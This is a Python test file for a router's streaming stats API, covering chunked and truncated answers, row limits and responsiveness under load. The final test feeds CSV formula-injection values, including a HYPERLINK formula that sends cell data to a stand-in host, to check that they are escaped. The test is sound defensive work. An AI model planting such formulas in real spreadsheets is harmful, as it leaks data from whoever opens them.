"""Long answers of stats/routes: streamed, cut and said so, and nobody waits for them."""

from __future__ import annotations

import asyncio
import csv
import io
import random
import time
from collections.abc import AsyncIterator, Iterator
from contextlib import aclosing, asynccontextmanager
from dataclasses import replace
from itertools import product
from pathlib import Path

import pytest

from ionrouter.api import stats
from ionrouter.api.row_stream import PIECE_BYTES, CsvRows, JsonRows, in_pieces
from ionrouter.stats.book import SeriesKey, StatsBook
from ionrouter.stats.classes import CLASSES
from ionrouter.stats.query import Question, Row, steps
from ionrouter.stats.resolution import HOUR
from ionrouter.stats.window import Bucket, PackedBucket
from tests.support.edge import EdgeServer, a_table, edge_server

NUM_SERIES, NUM_HOURS = 6, 150
NUM_ROWS = NUM_SERIES * NUM_HOURS
BY_HOUR = "/api/v1/stats/routes?window=7d&resolution=hour&group_by=endpoint"


def fill(book: StatsBook) -> None:
    bucket, rng = Bucket(), random.Random(1)
    for _ in range(300):
        seconds = rng.lognormvariate(0, 2)
        bucket.add("ok", {"ttft_s": seconds, "duration_s": 2 * seconds, "queue_s": 0.0})
    packed = PackedBucket.of(bucket)
    for number in range(NUM_SERIES):
        series = book.series(SeriesKey(f"e{number}", True, "main", "short"))
        assert series is not None
        window = next(w for w in series.windows if w.width_s == HOUR.width_s)
        for hour in range(NUM_HOURS):
            window.restore(int(time.time() // HOUR.width_s) - hour, packed)


def by_hour() -> Question:
    return Question(time.time() - 6 * 86_400, time.time(), resolution="hour")


@asynccontextmanager
async def full(tmp_path: Path) -> AsyncIterator[EdgeServer]:
    async with edge_server(tmp_path) as server:
        fill(server.edge.stats)
        yield server


async def test_a_long_answer_comes_in_pieces_and_is_one_whole(tmp_path: Path) -> None:
    async with full(tmp_path) as server:
        status, headers, told = await server.get(BY_HOUR)
        assert (status, headers.get("Transfer-Encoding")) == (200, "chunked")
        assert headers["Server"] == "ionrouter"
        rows = told["data"]
        assert len(rows) == NUM_ROWS and told["truncated"] is False
        assert (told["resolution_s"], told["until"] - told["since"]) == (3600, pytest.approx(7 * 86_400))
        assert [(r["endpoint"], r["start"]) for r in rows] == sorted(
            (r["endpoint"], r["start"]) for r in rows
        )
        assert all(row["queue_ms"] == {"n": 300, "p50": 0.0, "p90": 0.0, "p99": 0.0} for row in rows)
        status, headers, text = await server.get(f"{BY_HOUR}&format=csv")
        assert (status, headers["Content-Type"]) == (200, "text/csv; charset=utf-8")
        table = list(csv.DictReader(io.StringIO(text)))
        assert [float(line["start"]) for line in table] == [row["start"] for row in rows]
        assert len(text) > PIECE_BYTES


async def test_a_short_answer_leaves_whole(tmp_path: Path) -> None:
    async with full(tmp_path) as server:
        for query in ("limit=3", "limit=0", "endpoint=nobody", "limit=3&format=csv"):
            _, headers, _ = await server.get(f"{BY_HOUR}&{query}")
            assert "Content-Length" in headers, query
        _, _, none = await server.get(f"{BY_HOUR}&endpoint=nobody")
        assert (none["data"], none["truncated"]) == ([], False)


@pytest.mark.parametrize("order", ["", "&sort=-start", "&sort=ttft_ms.p99"])
async def test_a_cut_answer_says_so(tmp_path: Path, order: str) -> None:
    async with full(tmp_path) as server:
        _, _, cut = await server.get(f"{BY_HOUR}&limit={NUM_ROWS - 1}{order}")
        assert (len(cut["data"]), cut["truncated"]) == (NUM_ROWS - 1, True)
        _, _, whole = await server.get(f"{BY_HOUR}&limit={NUM_ROWS}{order}")
        assert (len(whole["data"]), whole["truncated"]) == (NUM_ROWS, False)
        if order == "&sort=-start":
            starts = [row["start"] for row in whole["data"]]
            assert starts == sorted(starts, reverse=True)


async def test_more_rows_than_there_may_be_are_refused(tmp_path: Path) -> None:
    async with full(tmp_path) as server:
        status, _, told = await server.get(f"{BY_HOUR}&limit={stats.MAX_ROWS + 1}")
        assert (status, told["error"]["param"]) == (400, "limit")


async def test_head_has_the_headers_and_no_rows(tmp_path: Path) -> None:
    async with full(tmp_path) as server:
        async with server.session.head(server.url(BY_HOUR)) as answer:
            assert (answer.status, await answer.read()) == (200, b"")
        assert (await server.get("/livez"))[0] == 200  # on the same connection


@pytest.mark.parametrize("num_long", [1, 4])
async def test_others_are_answered_while_it_is_worked_out(tmp_path: Path, num_long: int) -> None:
    async with full(tmp_path) as server:
        asked = [server.get(f"{BY_HOUR}&sort=-ttft_ms.p99") for _ in range(num_long)]
        long = asyncio.gather(*asked)
        num_answered = 0
        while not long.done():
            assert (await server.get("/livez"))[0] == 200
            num_answered += 1
        assert [len(told["data"]) for _, _, told in await long] == [NUM_ROWS] * num_long
        assert num_answered > 20


@pytest.mark.parametrize(
    "path",
    ["models?sort=latency-low-to-high", "models?sort=throughput-high-to-low", "models/acme/m/endpoints"],
)
async def test_others_are_answered_while_lists_are_made(tmp_path: Path, path: str) -> None:
    """A list of many busy endpoints reads hundreds of buckets of each."""
    table = a_table()
    model = table.models["acme/m"]
    busy = replace(model, endpoints=tuple(replace(model.endpoints[0], id=f"e{i}") for i in range(100)))
    async with edge_server(tmp_path, table=replace(table, models={"acme/m": busy})) as server:
        bucket, rng = Bucket(), random.Random(1)
        for _ in range(100):
            bucket.add("ok", {"ttft_s": rng.lognormvariate(0, 1), "throughput": rng.lognormvariate(0, 1)})
        packed = PackedBucket.of(bucket)
        for endpoint, request_class in product(busy.endpoints, CLASSES):
            series = server.edge.stats.series(SeriesKey(endpoint.id, True, "main", request_class))
            assert series is not None
            for minute in range(31):
                series.window_for(1800).restore(int(time.time() // 60) - minute, packed)
        asked = asyncio.create_task(server.get(f"/api/v1/{path}"))
        num_answered = 0
        while not asked.done():
            assert (await server.get("/livez"))[0] == 200
            num_answered += 1
        assert (await asked)[0] == 200
        assert num_answered > 20


async def test_long_answers_together_take_no_more_than_their_half(tmp_path: Path) -> None:
    async with edge_server(tmp_path) as server:
        turn, at_work = server.edge.stats_turn, list[int]()

        def working(number: int) -> Iterator[Row | None]:
            for _ in range(2000):
                assert turn.locked()
                at_work.append(number)
                yield None

        async def work(number: int) -> None:
            async for _ in in_pieces(working(number), JsonRows({}), 1, turn):
                pass

        await asyncio.gather(*(work(number) for number in range(3)))
        assert not turn.locked()
        assert sorted(set(at_work)) == [0, 1, 2]


async def test_who_reads_slowly_holds_up_no_other_answer(tmp_path: Path) -> None:
    async with full(tmp_path) as server:
        pieces = in_pieces(
            steps(server.edge.stats, by_hour()), JsonRows({}), NUM_ROWS, server.edge.stats_turn
        )
        async with aclosing(pieces):
            assert len(await anext(pieces)) >= PIECE_BYTES  # and the rest is not fetched
            _, _, told = await server.get(f"{BY_HOUR}&limit=3")
            assert len(told["data"]) == 3


@pytest.mark.parametrize("name", ['=HYPERLINK("http://x/"&A1)', "+1", "-2", "@SUM(A1)"])
def test_no_name_is_a_formula_to_who_opens_the_csv(name: str) -> None:
    write = CsvRows()
    text = write.row({"model": name, "requests": -1, "cost": -0.5}) + write.end(is_truncated=False)
    assert list(csv.DictReader(io.StringIO(text.decode()))) == [
        {"model": f"'{name}", "requests": "-1", "cost": "-0.5"}
    ]
